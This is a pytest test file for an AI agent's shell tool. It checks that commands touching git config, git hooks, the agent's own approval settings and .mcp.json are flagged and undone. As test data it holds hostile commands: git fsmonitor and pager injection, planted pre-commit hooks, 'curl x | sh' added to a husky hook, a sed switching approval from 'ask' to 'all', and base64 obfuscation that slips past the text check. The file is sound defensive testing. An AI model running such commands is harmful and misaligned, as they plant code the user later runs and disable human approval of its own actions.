"""bash and the protected paths: the plain cases ask, and any change is undone after the run."""

from __future__ import annotations

from pathlib import Path

import pytest

from agentsh.config import ApprovalMode
from agentsh.events import ApprovalDecision, ApprovalRequest, Event
from agentsh.tools.approval import Approver
from agentsh.tools.base import ToolContext
from agentsh.tools.protected import protected_command
from agentsh.tools.shell import BashTool
from tests.fakes.git_repo import git
from tests.tools.conftest import call


@pytest.mark.parametrize(
    "command",
    [
        "git config core.fsmonitor 'touch /tmp/x'",
        "git -C . config --local core.hooksPath hooks",
        "echo '[core]' >> .git/config",
        "cp payload.sh .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
        "cd .git && echo x >> config",
        "printf '[tools]\\napproval=\"all\"' > .agentsh/config.toml",
        "sed -i s/ask/all/ ./.agentsh/config.toml",
        "printf '{\"mcpServers\": {}}' > .mcp.json",
    ],
)
def test_commands_that_name_protected_paths_are_seen(command: str) -> None:
    assert protected_command(command) is not None


@pytest.mark.parametrize(
    "command",
    [
        "git status",
        "git commit -qm 'fix: parser'",
        "git config user.name",
        "git config --get core.editor",
        "echo build/ >> .gitignore",
        "ls .github/workflows",
        "cat .gitattributes",
        "pytest -q tests/",
    ],
)
def test_ordinary_commands_are_not(command: str) -> None:
    assert protected_command(command) is None


@pytest.mark.asyncio
async def test_a_plain_git_config_write_asks_even_under_approve_all(
    project: Path, ctx: ToolContext
) -> None:
    asked: list[ApprovalRequest] = []

    def user(event: Event) -> None:
        if isinstance(event, ApprovalRequest):
            asked.append(event)
            event.decision.set_result(ApprovalDecision.DENY)

    ctx.emit = user
    bash = BashTool()
    params = bash.parse({"command": "git config core.fsmonitor 'touch /tmp/pwned'"})
    approver = Approver(ApprovalMode.ALL, project, interactive=True)
    denial = await approver.authorize(bash, params, ctx)
    assert denial is not None and len(asked) == 1 and ".git/" in asked[0].reason
    headless = await Approver(ApprovalMode.ALL, project, interactive=False).authorize(
        bash, params, ctx
    )
    assert headless is not None and headless.startswith("Denied:")
    ordinary = bash.parse({"command": "git status --short"})
    assert (
        await Approver(ApprovalMode.ALL, project, interactive=False).authorize(bash, ordinary, ctx)
        is None
    )


@pytest.mark.asyncio
async def test_a_disguised_change_is_undone_after_the_command(
    project: Path, ctx: ToolContext
) -> None:
    config = project / ".git" / "config"
    before = config.read_bytes()
    settings = project / ".agentsh" / "config.toml"
    settings.parent.mkdir()
    settings.write_text('[tools]\napproval = "ask"\n')
    script = (
        "d=.g; d=${d}it; printf '[core]\\n\\tfsmonitor = touch pwned\\n' >> $d/config; "
        "h=$(echo LmdpdC9ob29rcy9wcmUtY29tbWl0 | base64 -d); printf '#!/bin/sh\\nid\\n' > $h; "
        "chmod +x $h; a=.agent; sed -i s/ask/all/ ${a}sh/config.toml; echo done"
    )
    mcp = project / ".mcp.json"
    script += "; m=.mc; printf '{\"mcpServers\":{}}' > ${m}p.json"
    assert protected_command(script) is None  # the text hides it...
    result = await call(BashTool(), ctx, command=script)
    assert "done" in result.content
    assert config.read_bytes() == before  # ...the tripwire does not
    assert not (project / ".git" / "hooks" / "pre-commit").exists()
    assert settings.read_text() == '[tools]\napproval = "ask"\n'
    assert not mcp.exists()
    assert result.details["protected_undone"] == [
        ".agentsh/config.toml",
        ".git/config",
        ".git/hooks/pre-commit",
        ".mcp.json",
    ]
    assert "agentsh undid this command's changes" in result.content


@pytest.mark.asyncio
async def test_a_change_to_git_settings_under_another_name_is_undone(
    project: Path, ctx: ToolContext
) -> None:
    """The tripwire watches the repository's folder behind a ``gitdir:`` file and the config
    files its config includes, as it watches ``.git/``."""
    (project / ".git").rename(project / ".meta")
    (project / ".git").write_text("gitdir: .meta\n")
    config = project / ".meta" / "config"
    with config.open("a") as handle:
        handle.write("[include]\n\tpath = ../inc.cfg\n")
    before = config.read_bytes()
    script = (
        "printf '[core]\\n\\tfsmonitor = touch pwned\\n' > inc.cfg; "
        "printf '[core]\\n\\tpager = touch pwned\\n' >> .meta/config; "
        "printf '#!/bin/sh\\nid\\n' > .meta/hooks/pre-commit; echo done"
    )
    result = await call(BashTool(), ctx, command=script)
    assert "done" in result.content
    assert config.read_bytes() == before
    assert not (project / "inc.cfg").exists()
    assert not (project / ".meta" / "hooks" / "pre-commit").exists()
    assert result.details["protected_undone"] == [
        ".meta/config",
        ".meta/hooks/pre-commit",
        "inc.cfg",
    ]


@pytest.mark.asyncio
async def test_ordinary_git_work_is_left_alone(project: Path, ctx: ToolContext) -> None:
    (project / "a.txt").write_text("a\n")
    env = "GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@e GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@e"
    result = await call(
        BashTool(), ctx, command=f"git add a.txt && {env} git commit -qm one && git log --oneline"
    )
    assert "one" in result.content and "protected_undone" not in result.details


@pytest.mark.asyncio
async def test_settings_behind_a_link_inside_the_project_are_put_back(
    project: Path, ctx: ToolContext
) -> None:
    """A repository's ``.agentsh`` may be a link to ``conf/``: the check saw the change to
    ``conf/config.toml`` but could not write back through the link, and said nothing."""
    (project / "conf").mkdir()
    settings = project / "conf" / "config.toml"
    settings.write_text('[tools]\napproval = "ask"\n')
    (project / ".agentsh").symlink_to("conf")
    result = await call(BashTool(), ctx, command="sed -i s/ask/all/ conf/config.toml; echo done")
    assert settings.read_text() == '[tools]\napproval = "ask"\n'
    assert (project / ".agentsh").is_symlink()
    assert result.details["protected_undone"] == [".agentsh/config.toml"]


@pytest.mark.asyncio
async def test_the_hooks_folder_and_a_frameworks_config_are_put_back(
    project: Path, ctx: ToolContext
) -> None:
    """husky's .husky/ (core.hooksPath) and pre-commit's config are what the user's next
    commit runs; write and edit ask for them, and a command changed them for good."""
    git(project, "config", "core.hooksPath", ".husky")
    (project / ".husky").mkdir()
    hook = project / ".husky" / "pre-commit"
    hook.write_text("# File generated by pre-commit: https://pre-commit.com\nexec pre-commit\n")
    config = project / ".pre-commit-config.yaml"
    config.write_text("repos: []\n")
    script = (
        "printf 'curl x | sh\\n' >> .husky/pre-commit; touch .husky/pre-push; "
        "printf 'repos: [{repo: local}]\\n' > .pre-commit-config.yaml"
    )
    result = await call(BashTool(), ctx, command=script)
    assert hook.read_text().endswith("exec pre-commit\n")
    assert not (project / ".husky" / "pre-push").exists()
    assert config.read_text() == "repos: []\n"
    assert result.details["protected_undone"] == [
        ".husky/pre-commit",
        ".husky/pre-push",
        ".pre-commit-config.yaml",
    ]
